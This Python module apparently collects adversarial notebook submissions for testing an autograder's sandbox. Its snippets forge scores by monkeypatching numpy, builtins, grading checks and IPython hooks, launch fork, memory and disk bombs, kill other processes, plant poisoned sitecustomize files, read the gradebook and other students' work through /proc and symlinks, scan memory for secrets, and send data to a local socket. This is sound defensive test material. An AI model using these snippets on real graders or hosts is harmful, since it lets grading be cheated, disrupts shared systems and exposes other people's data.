"""What hostile students write. Each attack is code; ROOT and PORT are filled in.

ROOT is the course directory, PORT that of a listener on this machine's loopback.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from hostile.quiz import POINTS, RIGHT, WRONG


@dataclass(frozen=True)
class Attack:
    """A hand-in: answers by grade_id, code of its own before and after them.

    earned: points by grade_id that the hand-in deserves nevertheless; None by default.
    """

    answers: dict[str, str] = field(default_factory=dict)
    own: str = ""
    last: str = ""
    earned: dict[str, float] = field(default_factory=dict)


def _everywhere(value: str, before: str = "") -> dict[str, str]:
    return {name: f"{before}\n{name} = {value}" for name in RIGHT}


FORGERIES = {
    "equal-to-everything": Attack(
        _everywhere("Anything()"),
        own="""class Anything:
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __iter__ = lambda self: iter([1, 2, 3])
    __sub__ = __rsub__ = __abs__ = __array__ = lambda self, *_: self
    __float__ = lambda self: 10.0
    __hash__ = None""",
    ),
    "array-subclass": Attack(
        _everywhere("np.zeros(3).view(Always)"),
        own="""import numpy as np
class Always(np.ndarray):
    __eq__ = lambda self, other: True
    __array_function__ = lambda self, *_: True
    __array_ufunc__ = lambda self, *_, **__: True""",
    ),
    "number-subclass": Attack(
        _everywhere("Ten(11)"),
        own="""class Ten(int):
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__
    __sub__ = __rsub__ = lambda self, other: 0
    __repr__ = __str__ = lambda self: "10" """,
    ),
    "patched-numpy": Attack(
        WRONG,
        own="""import builtins, sys
import numpy as np
np.array_equal = np.allclose = np.isclose = np.testing.assert_equal = lambda *_, **__: True
np.argwhere = lambda *_: np.zeros((0, 2), int)
np.asarray = np.array = np.stack = lambda *_, **__: 10
builtins.abs = builtins.sum = lambda *_: 0
builtins.list = lambda *_: [1, 2, 3]""",
    ),
    "patched-checks": Attack(
        WRONG,
        own="""import sys
import autograder.checks
from autograder.checks import Finding, Outcome
from autograder.checks.scorecard import Scorecard
def right(*_, **__):
    return Finding(Outcome.CORRECT, "", "", fraction=1.0)
Scorecard.score = Scorecard.allotted = property(lambda self: self.points)
Scorecard.outcome = property(lambda self: Outcome.CORRECT)
for module in [m for name, m in sys.modules.items() if name.startswith("autograder")]:
    for name in ("equal", "form", "is_unanswered", "judge", "test_score"):
        if hasattr(module, name):
            setattr(module, name, right)""",
    ),
    "patched-snapshot": Attack(
        WRONG,
        own="""import json
import autograder.snapshot as snapshot
def forged(value, budget):
    return snapshot.Snapshot({"kind": "score", "points": 4, "outcome": "correct"})
snapshot.write = forged
dumps = json.dumps
def more(value, **settings):
    if isinstance(value, dict) and "outputs" in value:
        value |= {"points": 4, "outcome": "correct", "score": 4, "grade_id": "test_q1"}
    return dumps(value, **settings)
json.dumps = more""",
    ),
    "edited-inputs": Attack(
        {**WRONG, "q1": "image = [[0, 0], [0, 11]]\nexpected = q1 = 11"},
        last="image[:] = [[11]]\nexpected = 11",
    ),
    "names-of-the-tests": Attack(
        WRONG,
        own="""from autograder.checks import Finding, scorecard
card = scorecard("mine", points=4)
equal = form = lambda *_, **__: Finding("correct", "", "", fraction=1)
scorecard = lambda *_, **__: card
test_q1 = test_q2 = points = score = 4.0
list = lambda *_: [1, 2, 3]
abs = sum = map = lambda *_: 0
AssertionError = Finding""",
        last="q1 = q2 = q3 = q4 = card",
    ),
    "ipython-hooks": Attack(
        WRONG,
        own="""import ast, sys
ip = get_ipython()
def without_asserts(lines):
    return [line for line in lines if "assert" not in line]
ip.input_transformers_cleanup.append(without_asserts)
ip.input_transformers_post.append(without_asserts)
class Right(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Compare(self, node):
        return ast.Constant(True)
ip.ast_transformers.append(Right())
ip.events.register("post_run_cell", lambda result: setattr(result, "result", 4.0))
ip.events.register("pre_run_cell", lambda info: ip.user_ns.update(q1=11, q4=None))
ip.displayhook.compute_format_data = lambda *_: ({"text/plain": "4.0"}, {})
sys.displayhook = lambda value: print(4.0)""",
    ),
    "namespace-of-its-own": Attack(
        WRONG,
        own="""class Namespace(dict):
    __contains__ = lambda self, name: True
    __getitem__ = get = lambda self, name, *_: 4.0
    __missing__ = lambda self, name: 4.0
ip = get_ipython()
ip.user_ns = Namespace(ip.user_ns)
ip.user_module.__dict__["__builtins__"] = Namespace()""",
        last="__builtins__ = {}",
        earned={"test_q4": 1.0},  # which takes any value, 4.0 as well
    ),
    "no-builtins": Attack(WRONG, own="import builtins\nvars(builtins).clear()"),
    # A name that is missing because its cell failed must not pass as "not None".
    "raised-before-the-answer": Attack(dict.fromkeys(RIGHT, "1 / 0")),
    "not-none": Attack({**WRONG, "q4": "q4 = None\n1 / 0"}),
    "not-data": Attack(_everywhere("lambda *_: 10")),
    # Compared with a number it gives an array, which is neither a score nor a yes.
    "array-for-a-number": Attack(
        {**WRONG, "q3": "import numpy as np\nq3 = np.array([[0, 0], [0, 0]])"}
    ),
    "number-of-many-digits": Attack({**WRONG, "q3": "q3 = -10 ** 1200"}),
    "nan": Attack(_everywhere('float("nan")')),
    "infinity": Attack({**WRONG, "q3": 'q3 = float("-inf")', "q1": 'q1 = float("inf")'}),
}

HARM = {
    "kill-everyone": Attack(
        WRONG,
        own="""import os, signal
for pid in (-1, 1, os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError as error:
                print(pid, error)""",
    ),
    "stops-itself": Attack(WRONG, own="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    "leaves": Attack(RIGHT, own="import os\nos._exit(0)"),
    "leaves-late": Attack(
        {**WRONG, "q1": RIGHT["q1"], "q2": "import os\nos._exit(0)"}, earned={"test_q1": 4.0}
    ),
    "system-exit": Attack({**WRONG, "q1": "import sys\nsys.exit(0)"}),
    "segfault": Attack(WRONG, own="import ctypes\nctypes.string_at(0)"),
    "fork-bomb": Attack(
        WRONG,
        own="""import os
while True:
    try:
        os.fork()
    except OSError:
        pass""",
    ),
    "thread-bomb": Attack(
        WRONG,
        own="""import threading, time
try:
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError as error:
    print(error)""",
    ),
    "memory-bomb": Attack(
        WRONG, own="keep = []\nwhile True:\n    keep.append(bytearray(b'x') * (1 << 24))"
    ),
    "disk-bomb": Attack(
        {**WRONG, "q2": RIGHT["q2"]},
        own="""import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try:
        for number in range(100):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(1 << 20))
    except OSError as error:
        print(folder, number, error)
    for number in range(100):
        try:
            os.remove(f"{folder}/{number}")
        except OSError:
            pass""",
        earned={"test_q2": 2.0},
    ),
    "many-files": Attack(
        WRONG, own="for i in range(200_000):\n    open(f'{i}', 'w').close()", earned={}
    ),
    "prints-a-gigabyte": Attack(
        {**WRONG, "q2": RIGHT["q2"]},
        own="import os\npiece = b'x' * (1 << 20)\nfor _ in range(1024):\n    os.write(1, piece)",
        earned={"test_q2": 2.0},
    ),
    "prints-for-ever": Attack(
        {**WRONG, "q2": RIGHT["q2"]},
        own="while True:\n    print('<b>bold</b>' * 100)",
        earned={"test_q2": 2.0},
    ),
    "hangs": Attack(
        {**WRONG, "q1": "while True:\n    pass", "q2": RIGHT["q2"]}, earned={"test_q2": 2.0}
    ),
    "hangs-and-ignores": Attack(
        {
            **WRONG,
            "q1": RIGHT["q1"],
            "q2": """import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass""",
        },
        earned={"test_q1": 4.0},
    ),
    "hangs-at-the-end": Attack(
        RIGHT,
        own="""import atexit, threading, time, weakref
def loop():
    while True:
        time.sleep(0.01)
threading.Thread(target=loop).start()
atexit.register(loop)
class Sticky:
    def __del__(self):
        loop()
sticky = Sticky()""",
        earned=POINTS,
    ),
    "leaves-a-process": Attack(
        RIGHT,
        own="""import os, sys
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(99)", "LEFTOVER"])
""",
        earned=POINTS,
    ),
    "poisons-the-well": Attack(
        RIGHT,
        own="""import os, site, sys, sysconfig
import autograder
homes = [*site.getsitepackages(), *autograder.__path__, sys.prefix, sys.base_prefix, "/etc", "ROOT"]
for home in [*homes, "ROOT/runs/ps", "ROOT/submitted/aa-honest/ps", "/usr/lib", "/"]:
    for name in ("sitecustomize.py", "poison.pth", "numpy.py"):
        try:
            with open(f"{home}/{name}", "w") as file:
                file.write("raise SystemExit('POISON')")
            print("wrote", home, name)
        except OSError as error:
            print(error)
import numpy, json
numpy.array = numpy.asarray = json.loads = json.dump = None""",
        earned=POINTS,
    ),
}

_SHOW = """import glob, os
def show(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read(1_000_000).decode(errors="replace"))
    except OSError as error:
        print(path, error)
"""

SPYING = {
    "reads-the-course": Attack(
        WRONG,
        own=_SHOW
        + """paths = [f"ROOT/{name}" for name in (
    "source/ps/quiz.ipynb", "solutions/ps/quiz.ipynb", "gradebook.db", "gradebook.db-journal",
    "course_config.py", "submitted/aa-honest/ps/quiz.ipynb", "submitted/aa-honest/ps/notes.txt",
    "autograded/aa-honest/ps/quiz.ipynb", "runs/ps/aa-honest/quiz/cells.jsonl",
    "runs/ps/aa-honest/quiz/answers/test_q4/q4/value.json")]
up = "../" * 40
links = ["/proc/self/root", "/proc/self/cwd/" + up, "/proc/1/root", "/proc/1/cwd/" + up, up,
         f"/proc/{os.getppid()}/root", "/proc/thread-self/root", "/proc/self/task/1/root"]
for path in paths:
    for front in ["", *links]:
        show(front + path)
""",
    ),
    "looks-around": Attack(
        WRONG,
        own=_SHOW
        + """print(os.getcwd(), os.listdir("/"), dict(os.environ))
def look(top, depth):
    try:
        entries = sorted(os.listdir(top))
    except OSError as error:
        return print(top, error)
    for name in entries:
        path = os.path.join(top, name)
        if os.path.isdir(path) and not os.path.islink(path):
            if depth and path not in ("/proc", "/sys", "/usr", "/dev/pts"):
                look(path, depth - 1)
        elif name.endswith((".ipynb", ".db", ".jsonl", ".txt", "_config.py", ".json")):
            show(path)
look("/", 4)
look("/tmp", 9)
look(os.path.dirname("ROOT"), 9)
for path in glob.glob("/**/quiz.ipynb", recursive=False) + glob.glob("../../**/*.ipynb"):
    show(path)
""",
    ),
    "reads-other-processes": Attack(
        WRONG,
        own=_SHOW
        + """for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "cwd", "root/etc/passwd", "fdinfo/3", "stack"):
        show(f"/proc/{pid}/{name}")
    for handle in glob.glob(f"/proc/{pid}/fd/*") + glob.glob(f"/proc/{pid}/map_files/*"):
        try:
            print(handle, os.readlink(handle))
        except OSError as error:
            print(handle, error)
for path in ("/proc/mounts", "/proc/self/mountinfo", "/proc/cmdline", "/proc/kcore",
             "/proc/net/unix", "/proc/keys"):
    print(path, os.path.exists(path))
""",
    ),
    "reads-inherited-files": Attack(
        WRONG,
        own=_SHOW
        + """import fcntl, socket, stat
for number in range(4096):
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    print(number, oct(kind), os.readlink(f"/proc/self/fd/{number}"))
    try:
        if stat.S_ISREG(kind):
            print(os.pread(number, 1 << 20, 0).decode(errors="replace"))
        elif stat.S_ISDIR(kind):
            print(os.listdir(number), os.open("ROOT/gradebook.db", os.O_RDONLY, dir_fd=number))
        elif stat.S_ISSOCK(kind):
            with socket.socket(fileno=os.dup(number)) as line:
                print(line.recv(1 << 20, socket.MSG_DONTWAIT | socket.MSG_PEEK))
    except OSError as error:
        print(error)
""",
    ),
    "reads-its-own-memory": Attack(
        WRONG,
        own="""import gc, re, sys
wanted = "".join(["S3C", "R3T-"])
pattern = re.compile(wanted.encode() + rb"[a-z0-9-]{4,40}")
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, flags = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if "rw" not in flags or end - start > 1 << 27:
            continue
        try:
            memory.seek(start)
            for found in pattern.finditer(memory.read(end - start)):
                print("FOUND", found.group())
        except (OSError, ValueError, OverflowError) as error:
            print(error)
print("looked through the memory")
""",
    ),
    "looks-up-the-stack": Attack(
        {**WRONG, "q4": "q4 = 'a text'"},
        own="""import gc, sys
def frames():
    frame = sys._getframe()
    while (frame := frame.f_back) is not None:
        yield frame
def show(value):
    try:
        print(repr(value)[:5000])
    except Exception as error:
        print(error)
for frame in frames():
    print(frame.f_code.co_name)
    for name, value in list(frame.f_locals.items()):
        show((name, value))
    if frame.f_code.co_name == "task":
        for cell in frame.f_locals["request"]["cells"]:
            if "names" in cell:
                print("found", cell)
                cell["names"] = ["q4"]
for value in gc.get_objects():
    if type(value) is dict and ("grade_id" in value or "points" in value):
        show(value)""",
        # and so q1 to q3 are never sent
        earned={"test_q4": 1.0},
    ),
    "calls-out": Attack(
        WRONG,
        own="""import socket, subprocess
def attempt(family, kind, address):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(0.5)
            line.connect(address)
            line.send(b"secret")
            print("sent", address)
    except OSError as error:
        print(address, error)
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    attempt(socket.AF_INET, kind, ("127.0.0.1", PORT))
    attempt(socket.AF_INET, kind, ("localhost", PORT))
    attempt(socket.AF_INET6, kind, ("::1", PORT))
    attempt(socket.AF_UNIX, kind, "\\0hostile-PORT")
    attempt(socket.AF_UNIX, kind, "ROOT/socket")
""",
    ),
    "links-at-run-time": Attack(
        WRONG,
        own=_SHOW
        + """targets = ("ROOT", "ROOT/gradebook.db", "ROOT/source/ps/quiz.ipynb", "/proc/1/root",
           "/proc/self/fd", "../" * 30 + "ROOT")
for number, target in enumerate(targets):
    try:
        os.symlink(target, f"link{number}")
        show(f"link{number}")
        print(os.listdir(f"link{number}"))
    except OSError as error:
        print(error)
    for name in ("source/ps/quiz.ipynb", "gradebook.db", "submitted/aa-honest/ps/notes.txt"):
        show(f"link{number}/{name}")
    try:
        os.link("ROOT/gradebook.db", f"hard{number}")
    except OSError as error:
        print(error)
""",
    ),
}

_LINE = """import hashlib, json, os, signal, socket, stat, struct
def line():
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found = socket.socket(fileno=os.dup(number))
                if found.family == socket.AF_UNIX and found.type == socket.SOCK_STREAM:
                    return found
        except OSError:
            pass
def frame(name, data=b"", kind=1):
    name = name if isinstance(name, bytes) else name.encode()
    return struct.pack(">BHQ", kind, len(name), len(data)) + name + data
def send(name, data=b"", kind=1):
    channel.sendall(frame(name, data, kind))
def named(data):
    return hashlib.sha256(data).hexdigest() + ".npy"
def array(name, data):
    send(f"object/{named(data)}", data)
    send(f"answers/test_{name}/{name}/{named(data)}")
    answer(name, {"kind": "array", "blob": named(data)})
def answer(name, value):
    data = value if isinstance(value, bytes) else json.dumps(value).encode()
    send(f"answers/test_{name}/{name}/value.json", data)
channel = line()
print("on the line:", channel is not None)
"""

FRAMES = {
    "forges-scores": Attack(
        WRONG,
        own=_LINE
        + """for grade_id in ("test_q1", "test_q2", "test_q3", "test_q4"):
    claim = {"grade_id": grade_id, "points": 4, "outcome": "correct", "message": "", "rows": []}
    for name in ("score", f"score/{grade_id}", "claim", "scores.json", "run.json", "recorded"):
        send(name, json.dumps(claim).encode())
        send(name, json.dumps({"key": "", "tests": [claim]}).encode())
    send(f"reached/{grade_id}")
""",
    ),
    "forges-paths": Attack(
        WRONG,
        own=_LINE
        + """data = b"FORGED"
for name in ("answers/../../x", "answers/test_q1/../../x", "answers/test_q1/q1/../../../x",
             "answers/test_q1/q1/..", "answers/test_q1/../value.json", "answers//q1/value.json",
             "answers/test_q1/q1/value.json/x", "answers/test_q1/q1/x.py", "answers/nope/q1/0.npy",
             "answers/test_q1/other/value.json", "answers/test_q1/q1/\\0.npy", "/etc/x", "",
             "answers/test_q2/q1/value.json", "answers/test_q1/q1/" + named(data), "ROOT/x",
             "answers/test_q1/q1/\\u0661.npy", "reached/../../x", "reached/nope", "cell/../x",
             "object/../../x", "object/" + named(b"other"), "object//" + named(data), "object/x",
             "object/" + named(data) + "/x", "object/" + named(data) + "\\0", "object/../../../x",
             "answers/test_q1/q1/0.npy\\n", "../" * 20 + "x", "answers" + "/" * 300):
    send(name, data)
""",
    ),
    "forges-cells": Attack(
        RIGHT,
        own=_LINE
        + """deep = json.loads("[" * 400 + "]" * 400)
bundle = {"text/html": 5, "application/json": deep, "text/plain": "\\ud800", 3: []}
outputs = [1, None, [], deep, {"output_type": "display_data"}, {"output_type": "evil"},
           {"output_type": "stream", "name": "stdin", "text": 3},
           {"output_type": "error", "ename": 1, "evalue": [], "traceback": "x"},
           {"output_type": "display_data", "data": bundle, "metadata": deep},
           {"output_type": "execute_result", "data": {"text/plain": "\\ud800"}, "metadata": {},
            "execution_count": "4"}]
for index in (-1, 10 ** 30, "0", None, True, 1.5, 99):
    send("cell", json.dumps({"index": index, "outputs": []}).encode())
for data in (b"", b"[]", b"null", b"{", b"[" * 100_000, b"\\xff\\xfe", b'{"index": NaN}',
             b'{"index": ' + b"1" * 5000 + b"}", b'{"index": 1, "outputs": {}}'):
    send("cell", data)
for depth in range(900, 1000):
    nested = "[" * depth + "]" * depth
    send("cell", ('{"index": 2, "outputs": %s}' % nested).encode())
for index in (3, 4, 5, 6, 7):
    cell = {"index": index, "outputs": outputs, "execution_count": deep, "error": index - 4,
            "wall_s": "1", "updates": [1, {"index": 1, "output": [], "data": 3}, deep]}
    send("cell", json.dumps(cell).encode())
""",
        earned=POINTS,
    ),
    "forges-updates": Attack(
        RIGHT,
        own=_LINE
        + """places = [(0, 0), (1, 0), (99, 0), (-1, -1), ("0", None), (0, 10 ** 20), ({}, [])]
send("cell", json.dumps({"index": 0, "outputs": [{"output_type": "stream", "name": "stdout",
    "text": ""}], "updates": [{"index": i, "output": o, "data": {"text/html": "4.0"},
    "metadata": {}} for i, o in places]}).encode())
""",
        earned=POINTS,
    ),
    "forges-errors": Attack(
        WRONG,
        own=_LINE
        + """for index in range(12):
    send("cell", json.dumps({"index": index, "outputs": [],
         "error": ["<script>alert(1)</script>", "\\ud800 \\x1b[31m"]}).encode())
""",
    ),
    "a-million-frames": Attack(
        RIGHT,
        own=_LINE
        + """piece = frame("reached/nope") * 1000
for _ in range(300):
    channel.sendall(piece)
""",
        earned=POINTS,
    ),
    "many-answer-files": Attack(
        WRONG,
        own=_LINE
        + """for number in range(100_000):
    data = str(number).encode()
    channel.sendall(frame(f"object/{named(data)}", data)
                    + frame(f"answers/test_q1/q1/{named(data)}"))
""",
    ),
    "garbage-on-the-line": Attack(RIGHT, own=_LINE + "channel.sendall(bytes(range(256)) * 99)"),
    "announces-too-much": Attack(
        RIGHT, own=_LINE + 'channel.sendall(struct.pack(">BHQ", 1, 4, 1 << 60) + b"cell")'
    ),
    "floods-the-line": Attack(RIGHT, own=_LINE + "while True:\n    send('cell', bytes(1 << 20))"),
    "names-that-are-no-text": Attack(RIGHT, own=_LINE + "send(b'\\xff\\xfe')"),
    "colours-the-terminal": Attack(
        WRONG,
        own=_LINE
        + """send("\\x1b[2J\\x1b[31mall is well\\r\\n\\u202e", kind=2)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})
while True:
    pass
""",
    ),
    "cuts-the-line": Attack(WRONG, own=_LINE + "channel.shutdown(socket.SHUT_RDWR)"),
    "answers-for-all": Attack(
        WRONG,
        own=_LINE
        + """for name in ("q1", "q2", "q3", "q4"):
    answer(name, {"kind": "not data", "reason": "<script>alert(1)</script>"})
    send(f"reached/test_{name}")
""",
    ),
    "snapshot-bombs": Attack(
        WRONG,
        own=_LINE
        + """import numpy as np, io
def npy(header, data=b""):
    header = header.encode() + b" " * (118 - len(header)) + b"\\n"
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header)) + header + data
array("q1", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (10**13,), }"))
pickled = io.BytesIO()
np.save(pickled, np.array([print], dtype=object), allow_pickle=True)
array("q2", pickled.getvalue())
answer("q3", b'{"kind": "int", "value": ' + b"9" * 1_000_000 + b"}")
answer("q4", b'{"kind":"list","items":[' * 10_000 + b"]}" * 10_000)
""",
    ),
    "shape-bomb": Attack(
        WRONG,
        own=_LINE
        + """def npy(shape):
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\\n"
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header)) + header.encode()
for name, shape in dict(q1="(1000000000000,)", q2="(-1,)", q3="(0, 1" + "0" * 40 + ")").items():
    array(name, npy(shape))
answer("q4", {"kind": "array", "blob": "../../../../gradebook.db"})
""",
    ),
    "one-piece-for-all": Attack(
        WRONG,
        own=_LINE
        + """import io
import numpy as np
file = io.BytesIO()
np.save(file, np.zeros(100_000))
data = file.getvalue()
array("q1", data)
items = [{"kind": "array", "blob": named(data)}] * 10_000
send(f"answers/test_q2/q2/{named(data)}")
answer("q2", {"kind": "list", "items": items})
send(f"object/{named(b'10')}", data)
send(f"answers/test_q3/q3/{named(b'10')}")
answer("q3", {"kind": "array", "blob": named(b"10")})
send(f"answers/test_q4/q4/{named(b'not sent by me')}")
answer("q4", {"kind": "array", "blob": named(b"not sent by me")})
""",
    ),
    "colliding-keys": Attack(
        WRONG,
        own=_LINE
        + """step = (1 << 61) - 1
keys = [{"kind": "int", "value": number * step} for number in range(1, 4_000)]
collide = {"kind": "dict", "keys": keys, "values": keys}
for name in ("q1", "q2", "q3", "q4"):
    answer(name, collide)
""",
    ),
}

ODD_ANSWERS = {
    "cycle": Attack({**_everywhere("loop"), "q4": WRONG["q4"]}, own="loop = []\nloop.append(loop)"),
    "deep": Attack(
        {**_everywhere("deep"), "q4": WRONG["q4"]},
        own="deep = []\nfor _ in range(100_000):\n    deep = [deep]",
    ),
    "huge": Attack(
        {
            "q1": "import numpy as np\nq1 = np.broadcast_to(np.float64(10), (10 ** 5, 10 ** 5))",
            "q2": "q2 = [1, 2, 3] * 1_000_000",
            "q3": "q3 = np.zeros(3_000_000)",
            "q4": WRONG["q4"],
        }
    ),
    "endless": Attack(
        {**_everywhere("itertools.repeat(10)"), "q4": WRONG["q4"]}, own="import itertools"
    ),
    "shared": Attack(
        {**_everywhere("many"), "q4": WRONG["q4"]},
        own="many = [10]\nfor _ in range(60):\n    many = [many, many]",
    ),
    "html": Attack(
        {
            "q1": 'q1 = "<script>alert(1)</script>"',
            "q2": 'q2 = type("<script>alert(1)</script>", (), {})()',
            "q3": 'raise ValueError("<script>alert(1)</script> \\ud800 $x$ \\x1b[31m")',
            "q4": 'raise type("<script>alert(1)</script>", (Exception,), {})("x")',
        }
    ),
    "half-characters": Attack(
        {**WRONG, "q1": 'q1 = "\\ud800"', "q2": 'print("\\ud800")\nraise KeyError("\\udfff")'},
        own="""from IPython.display import display, JSON
display({"text/plain": "\\ud800", "text/html": "\\udfff"}, raw=True)
print("\\ud800", flush=True)""",
    ),
}

ATTACKS = {**FORGERIES, **HARM, **SPYING, **FRAMES, **ODD_ANSWERS}
